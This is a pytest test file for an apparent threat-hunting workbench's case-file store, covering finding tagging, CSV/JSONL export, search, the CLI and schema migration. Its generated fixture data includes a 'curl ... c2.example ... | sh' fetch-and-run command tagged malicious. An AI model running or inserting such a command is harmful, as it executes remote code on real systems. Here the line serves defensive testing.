"""The case file keeps where, when and how a finding was found, and upgrades older files.

Rows and values are generated per run (hosts, agents, paths, times), so nothing here
depends on one data set; the migration test opens a case file the released huntbench
wrote (tests/fixtures/casefile/v1_release.db, see its README).
"""

from __future__ import annotations

import csv
import json
import random
import shutil
import sqlite3
import subprocess
import sys
import uuid
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest

from casefile import CaseError, open_case, schema
from casefile.values import iso_utc

FIXTURE = Path(__file__).parent / "fixtures" / "casefile" / "v1_release.db"
HUNTBENCH = str(Path(sys.executable).with_name("huntbench"))
RNG = random.SystemRandom()


def word(prefix: str) -> str:
    return f"{prefix}-{RNG.randrange(16**6):06x}"


def world() -> dict:
    """A random fleet slice: a file on several agents, and a command line on one of them."""
    start = datetime(2026, RNG.randrange(1, 12), RNG.randrange(1, 28), tzinfo=timezone.utc)
    agents = [(str(uuid.uuid4()), word("host")) for _ in range(RNG.randrange(2, 4))]
    times = sorted(start + timedelta(minutes=RNG.randrange(1, 5000)) for _ in agents)
    file_name = word(".rpm") + ".postinst"
    return {
        "file": {"cc": len(agents), "agent_count": len(agents), "file.name": file_name,
                 "process.executable": "/usr/bin/" + word("x")},
        "agents": [{"events": 1, "first_seen": iso_utc(t), "last_seen": iso_utc(t + timedelta(seconds=5)),
                    "agent.id": a, "host.name": h} for (a, h), t in zip(agents, times)],
        "command": {"@timestamp": iso_utc(times[0] + timedelta(seconds=2)), "host.name": agents[0][1],
                    "process.executable": "/usr/bin/curl",
                    "process.command_line": f"curl -s http://{word('c2')}.example/{file_name} | sh"},
        "times": times,
    }


def path_of(w: dict) -> list[dict]:
    agent = w["agents"][0]["agent.id"]
    return [
        {"label": "Q1", "query": "query:0", "on": {"file.name": w["file"]["file.name"],
                                                    "process.executable": w["file"]["process.executable"]}},
        {"label": "Agents that wrote this file", "query": "pivot:agents_for_file", "on": {"agent.id": agent}},
        {"label": "Command lines spawned by dpkg/rpm scripts on this agent", "query": "pivot:agent_script_commands",
         "on": {}},
    ]


def tag_world(case, w: dict) -> dict[str, str]:
    """Tag the file (resolved hosts), an agent row and the command line, as the workbench does."""
    steps = path_of(w)
    resolved = {"hosts": [a["host.name"] for a in w["agents"]], "agents": [a["agent.id"] for a in w["agents"]],
                "first_seen": w["agents"][0]["first_seen"], "last_seen": w["agents"][-1]["last_seen"]}
    common = dict(source_kind="offline", source="offline: /data/export.ndjson", hunt_uuid=str(uuid.uuid4()),
                  hunt_name="Persistence via DPKG/RPM Package")
    q1 = case.tag_rows([w["file"]], ["suspicious"], query=0, pivot_path=steps[:1], resolved=[resolved], **common)
    agent = case.tag_rows([w["agents"][0]], ["needs-review"], query="pivot:agents_for_file",
                          params={"file_name": w["file"]["file.name"]}, pivot_path=[
                              {**steps[0]}, {**steps[1], "on": {}}], **common)
    command = case.tag_rows([w["command"]], ["malicious"], query="pivot:agent_script_commands",
                            params={"agent_id": w["agents"][0]["agent.id"]}, pivot_path=steps, **common)
    return {"q1": q1.finding_ids[0], "agent": agent.finding_ids[0], "command": command.finding_ids[0]}


def read_csv(path: Path) -> list[dict]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def test_hosts_agents_times_and_path_come_from_row_path_or_resolution(tmp_path):
    w = world()
    with open_case(tmp_path / "c.db") as case:
        ids = tag_world(case, w)
        q1, agent, command = (case.finding(ids[k]) for k in ("q1", "agent", "command"))
    assert q1.hosts == [a["host.name"] for a in w["agents"]] and q1.agents == [a["agent.id"] for a in w["agents"]]
    assert (q1.first_seen, q1.last_seen) == (w["agents"][0]["first_seen"], w["agents"][-1]["last_seen"])
    assert agent.key["file.name"] == w["file"]["file.name"]  # from the path: the agents pane came from a file
    assert command.agents == [w["agents"][0]["agent.id"]]  # from the path: the pivot was filtered on it
    assert command.hosts == [w["command"]["host.name"]]  # from the row
    assert command.key["process.executable"] == "/usr/bin/curl"  # the row wins over the path
    assert command.first_seen == w["command"]["@timestamp"] and command.time_desc == "Event time"
    assert command.pivot_path.startswith(f"Q1 file.name={w['file']['file.name']}, process.executable=")


def test_csv_and_jsonl_carry_where_when_how_and_timesketch_tags(tmp_path):
    w = world()
    with open_case(tmp_path / "c.db") as case:
        ids = tag_world(case, w)
        case.add_tags(ids["command"], ["T1543.002"])
        case.export(tmp_path / "f.csv")
        case.export(tmp_path / "f.jsonl", fmt="jsonl")
    rows = {r["finding_id"]: r for r in read_csv(tmp_path / "f.csv")}
    lines = {x["finding_id"]: x for x in map(json.loads, (tmp_path / "f.jsonl").read_text(encoding="utf-8").splitlines())}
    q1, command = rows[ids["q1"]], rows[ids["command"]]
    assert q1["host.name"] == ", ".join(a["host.name"] for a in w["agents"])
    assert lines[ids["q1"]]["host.name"] == [a["host.name"] for a in w["agents"]]
    assert lines[ids["q1"]]["agent.id"] == [a["agent.id"] for a in w["agents"]]
    assert (q1["datetime"], q1["timestamp_desc"]) == (w["agents"][0]["first_seen"], "First seen")
    assert q1["datetime"] < q1["tagged"]
    # Timesketch reads a "[...]" tag cell as JSON: one event tag per finding tag, case kept.
    assert json.loads(command["tag"]) == ["malicious", "T1543.002"] == lines[ids["command"]]["tag"]
    assert command["pivot_path"] == lines[ids["command"]]["pivot_path"]
    assert [s["label"] for s in lines[ids["command"]]["pivot_steps"]] == [s["label"] for s in path_of(w)]
    assert command["message"] == (f"malicious, T1543.002 command line: {w['command']['process.command_line']} on "
                                  f"{w['command']['host.name']} (hunt Persistence via DPKG/RPM Package, "
                                  f"{command['pivot_path']})")


def test_search_finds_hosts_agents_paths_command_lines_notes_and_pivot_steps(tmp_path):
    w, other = world(), world()
    with open_case(tmp_path / "c.db") as case:
        ids = tag_world(case, w)
        tag_world(case, other)
        case.add_note(ids["agent"], "Owner is " + word("Team").upper())
        note = case.finding(ids["agent"]).notes[0].text
        mine = set(ids.values())

        def found(text: str) -> set[str]:
            return {f.id for f in case.findings(search=text)}

        assert found(w["agents"][1]["host.name"].upper()) == {ids["q1"]}  # only resolved, any case
        assert found(w["agents"][0]["agent.id"]) == mine
        assert found(w["command"]["process.command_line"][5:25]) == {ids["command"]}
        assert found(note.lower()) == {ids["agent"]}
        assert found("agents that wrote this file agent.id=" + w["agents"][0]["agent.id"]) == {ids["command"]}
        assert found(w["file"]["file.name"]) == mine


def test_cli_list_search_and_export_formats_carry_the_context(tmp_path):
    w = world()
    case_path = tmp_path / "c.db"
    with open_case(case_path) as case:
        ids = tag_world(case, w)
    host = w["agents"][-1]["host.name"]
    listed = subprocess.run([HUNTBENCH, "case", "list", "--case", str(case_path), "--search", host, "--format", "json"],
                            capture_output=True, text=True, check=True)
    assert [f["id"] for f in json.loads(listed.stdout)] == [ids["q1"]]
    assert json.loads(listed.stdout)[0]["host.name"] == [a["host.name"] for a in w["agents"]]
    table = subprocess.run([HUNTBENCH, "case", "list", "--case", str(case_path), "--search", w["command"]["host.name"]],
                           capture_output=True, text=True, check=True).stdout
    assert "Command lines spawned" in table and "Q1" in table and "q0" not in table
    for fmt in ("csv", "jsonl"):
        out = tmp_path / f"e.{fmt}"
        subprocess.run([HUNTBENCH, "case", "export", "--case", str(case_path), "--format", fmt, "--out", str(out)],
                       check=True, capture_output=True)
        text = out.read_text(encoding="utf-8")
        keys = set(read_csv(out)[0]) if fmt == "csv" else set(json.loads(text.splitlines()[0]))
        assert {"pivot_path", "host.name", "agent.id", "first_seen", "last_seen", "datetime", "tag"} <= keys


def test_untagged_findings_are_left_out_of_export_and_counted(tmp_path):
    w = world()
    case_path = tmp_path / "c.db"
    with open_case(case_path) as case:
        ids = tag_world(case, w)
        case.add_note(ids["agent"], "not this one")
        case.untag(ids["agent"], "NEEDS-REVIEW")
        assert case.count_untagged() == 1
        assert ids["agent"] not in {f.id for f in case.findings(tagged_only=True)}
        assert [h.action for h in case.history(ids["agent"])] == ["tag", "note", "untag"]
    done = subprocess.run([HUNTBENCH, "case", "export", "--case", str(case_path), "--out", str(tmp_path / "x.csv")],
                          capture_output=True, text=True, check=True)
    assert "2 findings exported" in done.stderr and "(1 untagged finding left out)" in done.stderr


def test_tags_keep_typed_case_and_match_without_it(tmp_path):
    technique = f"T{RNG.randrange(1000, 1999)}.{RNG.randrange(1, 999):03d}"
    with open_case(tmp_path / "c.db") as case:
        fid = case.tag_rows([{"file.name": word("f")}], [technique], source_kind="offline", source="s").finding_ids[0]
        assert case.add_tags(fid, [technique.lower(), "Malicious"]) == ["malicious"]
        assert case.finding(fid).tags == ["malicious", technique]
        assert [f.id for f in case.findings(tag=technique.lower())] == [fid]
        assert case.tags_by_finding([fid]) == {fid: ["malicious", technique]}
        case.replace_tags(fid, ["benign"])
        assert case.finding(fid).tags == ["benign"]
        assert [h.action for h in case.history(fid)][-3:] == ["untag", "untag", "tag"]


# ---------------------------------------------------------------- migration
@pytest.fixture
def released(tmp_path) -> Path:
    target = tmp_path / "released.db"
    shutil.copyfile(FIXTURE, target)
    return target


def snapshot(path: Path) -> dict:
    conn = sqlite3.connect(path)
    try:
        return {
            "version": conn.execute("PRAGMA user_version").fetchone()[0],
            "findings": conn.execute("SELECT id, row_json, created, first_seen FROM findings ORDER BY id").fetchall(),
            "tags": conn.execute("SELECT finding_id, tag, added FROM tags ORDER BY 1, 2").fetchall(),
            "notes": conn.execute("SELECT finding_id, author, created, text FROM notes ORDER BY id").fetchall(),
            "audit": conn.execute("SELECT * FROM audit ORDER BY id").fetchall(),
        }
    finally:
        conn.close()


def test_a_case_file_of_the_released_version_migrates_in_place_and_gains_context(released):
    before = snapshot(released)
    assert before["version"] == 1
    with open_case(released, create=False) as case:
        assert case.info()["schema_version"] == str(schema.current_version())
        found = {f.query: f for f in case.findings()}
    after = snapshot(released)
    assert after["version"] == schema.current_version()
    for what in ("findings", "tags", "notes", "audit"):
        assert after[what] == before[what], what  # nothing lost, nothing rewritten
    q1, agent, command, scan = found["0"], found["pivot:agents_for_file"], found["pivot:agent_script_commands"], found["2"]
    # Derived: hosts/agents from rows and the pivot parameters, UI labels, file fields.
    assert agent.hosts == [agent.row["host.name"]] and agent.agents == [agent.row["agent.id"]]
    assert agent.key["file.name"] == agent.params["file_name"]
    assert command.agents == [command.params["agent_id"]] and command.hosts == [command.row["host.name"]]
    assert command.pivot_path == f"(earlier steps not recorded) agent.id={command.params['agent_id']} > " \
                                 "pivot:agent_script_commands"
    assert q1.pivot_path == "Q1" and q1.tags == ["suspicious"]
    assert scan.pivot_path == "Local scan"
    assert (scan.key["file.path"], scan.key["file.name"]) == (scan.row["path"], scan.row["filename"])
    untagged = next(f for f in case_findings(released) if not f.tags)
    assert [n.text for n in untagged.notes] == ["vendor package"]


def case_findings(path: Path):
    with open_case(path, create=False) as case:
        return case.findings()


def test_a_migrated_file_opens_again_unchanged_and_takes_new_tags(released):
    case_findings(released)
    once = released.read_bytes()
    assert len(case_findings(released)) == 5
    assert released.read_bytes() == once
    with open_case(released, create=False) as case:
        fid = next(f.id for f in case.findings(tag="suspicious") if f.query == "0")
        case.add_tags(fid, ["T1546.016"])
        assert case.finding(fid).tags == ["suspicious", "T1546.016"]


def test_a_newer_schema_file_is_refused_untouched(released):
    conn = sqlite3.connect(released)
    conn.execute(f"PRAGMA user_version = {schema.current_version() + 1}")
    conn.close()
    before = released.read_bytes()
    with pytest.raises(CaseError, match="newer than this huntbench reads"):
        open_case(released, create=False)
    assert released.read_bytes() == before
